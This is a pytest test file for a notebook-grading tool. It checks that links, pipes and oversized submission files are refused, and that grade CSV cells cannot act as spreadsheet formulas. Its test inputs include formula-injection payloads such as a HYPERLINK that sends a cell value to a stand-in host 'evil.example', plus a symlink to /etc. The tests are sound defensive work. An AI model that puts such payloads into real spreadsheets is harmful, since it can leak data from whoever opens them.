"""Submissions taken as data (mnistlib.grading.submissions, issue 24 class 6): links, hard links,
pipes and oversized files are refused before anything reads them; hand-in times are parsed as
dates, and no grades-file cell reads as a spreadsheet formula."""

from __future__ import annotations

import csv
import os

import pytest

from mnistlib.grading import command as grading
from mnistlib.grading import submissions
from mnistlib.grading.command import csv_cell, find_jobs
from mnistlib.grading.submissions import read_bytes, refusal, refused_files


@pytest.fixture()
def folder(tmp_path):
    submitted = tmp_path / "submitted"
    (submitted / "ada" / "toy").mkdir(parents=True)
    (submitted / "bo" / "toy").mkdir(parents=True)
    (submitted / "ada" / "toy" / "toy.ipynb").write_text('{"ada": 1}')
    return submitted


def test_a_plain_file_is_read(folder):
    path = folder / "ada" / "toy" / "toy.ipynb"
    assert refusal(path, within=folder) is None
    assert read_bytes(path, within=folder) == (b'{"ada": 1}', None)


@pytest.mark.parametrize(
    "make, says",
    [
        (lambda p, other: p.symlink_to(other), "is a symbolic link"),
        (lambda p, other: os.link(other, p), "is a hard link"),
        (lambda p, other: os.mkfifo(p), "not a regular file"),
        (lambda p, other: p.write_bytes(b"x" * 2000), "more than the"),
    ],
    ids=["symlink", "hard-link", "fifo", "oversized"],
)
def test_links_pipes_and_oversized_files_are_refused_unread(folder, make, says):
    other = folder / "ada" / "toy" / "toy.ipynb"
    path = folder / "bo" / "toy" / "toy.ipynb"
    make(path, other)
    why = refusal(path, within=folder, limit=1000)
    assert why is not None and says in why and why.startswith("toy.ipynb")
    assert read_bytes(path, within=folder, limit=1000) == (None, why)  # a fifo would block a read


def test_a_linked_learner_folder_is_refused(folder):
    (folder / "cy").symlink_to(folder / "ada")
    assert "the folder cy" in refusal(folder / "cy" / "toy" / "toy.ipynb", within=folder)


def test_a_linked_notebook_is_graded_as_refused_not_as_its_target(folder):
    (folder / "bo" / "toy" / "toy.ipynb").symlink_to(folder / "ada" / "toy" / "toy.ipynb")
    jobs, problems, is_class = find_jobs([folder.parent], {"toy": set()})
    assert is_class and not problems
    bo = next(j for j in jobs if j["student"] == "bo")
    assert bo["path"].endswith("bo/toy/toy.ipynb")  # not resolved to ada's
    assert "symbolic link" in refusal(bo["path"], within=bo["within"])


def test_extra_files_that_are_links_or_devices_are_listed(folder):
    where = folder / "ada" / "toy"
    (where / "notes.txt").symlink_to("../../../source/toy/toy.ipynb")
    (where / "data").symlink_to("/etc", target_is_directory=True)
    (where / "plain.txt").write_text("mine")
    assert set(refused_files(where)) == {str(where / "notes.txt"), str(where / "data")}


@pytest.mark.parametrize(
    "text, expected",
    [
        ("2026-12-02 05:23:21.162918 UTC\n", "2026-12-02 05:23:21.162918"),
        ('=HYPERLINK("http://evil.example/?"&A1,"2026-12-02")', ""),
        ("not a date", ""),
        ("2026-12-02T06:23:21+01:00", "2026-12-02 05:23:21"),
    ],
)
def test_hand_in_times_are_parsed_as_dates(tmp_path, text, expected):
    notebook = tmp_path / "toy.ipynb"
    notebook.write_text("{}")
    (tmp_path / "timestamp.txt").write_text(text)
    assert grading.submission_timestamp(notebook) == expected


def test_a_linked_or_huge_timestamp_file_is_not_read(tmp_path):
    notebook = tmp_path / "toy.ipynb"
    notebook.write_text("{}")
    secret = tmp_path / "secret.txt"
    secret.write_text("2026-12-02 05:23:21 UTC")
    (tmp_path / "timestamp.txt").symlink_to(secret)
    assert grading.submission_timestamp(notebook) == ""
    (tmp_path / "timestamp.txt").unlink()
    (tmp_path / "timestamp.txt").write_text("2026-12-02 05:23:21" + " " * submissions.MAX_TIMESTAMP_BYTES)
    assert grading.submission_timestamp(notebook) == ""


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_formula_cells_are_neutralised(text):
    assert csv_cell(text) == "'" + text
    assert csv_cell("ada") == "ada" and csv_cell(-1.5) == -1.5


def test_no_grades_file_cell_reads_as_a_formula(tmp_path):
    result = {
        "student": '=HYPERLINK("http://evil.example","x")',
        "assignment": "toy",
        "score": 1.0,
        "max_score": 3.0,
        "timestamp": "@SUM(A1)",
        "error": None,
    }
    grading.write_csv([result], tmp_path / "grades.csv", ["toy"])
    (row,) = csv.DictReader((tmp_path / "grades.csv").open())
    assert row["student_id"] == "'" + result["student"] and row["timestamp"] == "'@SUM(A1)"
    assert float(row["score"]) == 1.0
    assert not any(value.startswith(tuple("=+-@")) for value in row.values())
